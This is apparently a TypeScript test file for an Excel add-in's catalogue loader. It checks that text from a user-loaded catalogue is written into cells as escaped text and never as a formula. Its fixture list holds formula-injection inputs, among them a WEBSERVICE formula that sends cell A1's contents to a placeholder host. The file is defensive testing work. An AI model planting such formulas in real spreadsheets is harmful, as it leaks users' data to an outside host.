/*
 * Text from a catalogue (which a user can load from any file) is written into cells as text,
 * never as a formula: in templates, catalogue rows and quick fixes. The fake Excel reads written
 * strings as Excel does (as if typed), so an unescaped "=WEBSERVICE(...)" would become a formula.
 */
import { asCellText } from "../../../src/core/cellText";
import { fromData } from "../../../src/core/catalogue/loadKatalog";
import { defaultKatalog } from "../../../src/core/catalogue/loadKatalog";
import { buildTemplate } from "../../../src/core/template/templateModel";
import { fakeHost, FakeWorkbookState } from "../../../src/dev/fakeExcel";
import { createWorkbookService } from "../../../src/excel/workbookService";
import { KASI_PEMERINTAHAN_2025 } from "../../support/templateOptions";

const HOSTILE = [
  '=WEBSERVICE("http://contoh.invalid/?d="&A1)',
  "+1+2",
  "-Kasubag Umum dan Kepegawaian",
  "@SUM(A1:A3)",
  "'kutip",
];

describe("asCellText", () => {
  it.each([
    ["=A1", "'=A1"],
    ["+62 334", "'+62 334"],
    ["- Kasubag Keuangan", "'- Kasubag Keuangan"],
    ["@x", "'@x"],
    ["'sudah berkutip", "''sudah berkutip"],
    ["Jumlah desa / Jumlah desa x 100%", "Jumlah desa / Jumlah desa x 100%"],
    ["", ""],
  ])("%j -> %j", (text, expected) => expect(asCellText(text)).toBe(expected));
});

function hostileKatalog() {
  const data = structuredClone(defaultKatalog().data);
  const e = data.entri.find((x) => x.id === "iki-kec-desa-rkpdes-tepat-waktu")!;
  [e.sasaran, e.rumus, e.sumberData, e.penanggungJawab] = HOSTILE;
  return fromData(data, "katalog-berbahaya.json");
}

describe("hostile catalogue text stays text", () => {
  const katalog = hostileKatalog();

  it("in the template", async () => {
    const state = new FakeWorkbookState();
    state.addSheet("Lembar1");
    const service = createWorkbookService(fakeHost(state));
    const model = buildTemplate(katalog, KASI_PEMERINTAHAN_2025);
    const { sheet } = await service.insertTemplate(model, { kind: "lembar-baru" });
    const cells = [...state.sheet(sheet)!.cells.values()];
    for (const text of HOSTILE.slice(0, 4))
      expect(cells.some((c) => c.value === text && !c.formula)).toBe(true);
    // The only formulas are the template's own computed cells (the Capaian column, J).
    const computed = new Set(model.cells.filter((c) => c.formula).map((c) => c.formula));
    expect(computed.size).toBeGreaterThan(0);
    expect(cells.filter((c) => c.formula).every((c) => computed.has(c.formula!))).toBe(true);
  });

  it("in a catalogue row inserted at the selection, and a formula cell only when asked", async () => {
    const state = new FakeWorkbookState();
    const ws = state.addSheet("Lembar1");
    state.selection = { sheet: "Lembar1", area: { top: 0, left: 0, bottom: 0, right: 0 } };
    const service = createWorkbookService(fakeHost(state));
    await service.insertAtSelection(["", ...HOSTILE], "uji");
    HOSTILE.forEach((text, i) => {
      expect(ws.cell(0, i + 1)!.value).toBe(text);
      expect(ws.cell(0, i + 1)!.formula).toBeUndefined();
    });
    state.selection = { sheet: "Lembar1", area: { top: 2, left: 0, bottom: 2, right: 0 } };
    await service.insertAtSelection([{ formula: "=IKI.PERSEN(B2,C2,2)" }], "uji");
    expect(ws.cell(2, 0)!.formula).toBe("=IKI.PERSEN(B2,C2,2)");
  });

  it("in a quick fix", async () => {
    const state = new FakeWorkbookState();
    const ws = state.addSheet("IKI");
    const service = createWorkbookService(fakeHost(state));
    for (const [i, text] of HOSTILE.entries()) {
      await service.write("IKI", `F${i + 1}`, text, "uji");
      expect(ws.cell(i, 5)!.value).toBe(text);
      expect(ws.cell(i, 5)!.formula).toBeUndefined();
    }
  });
});
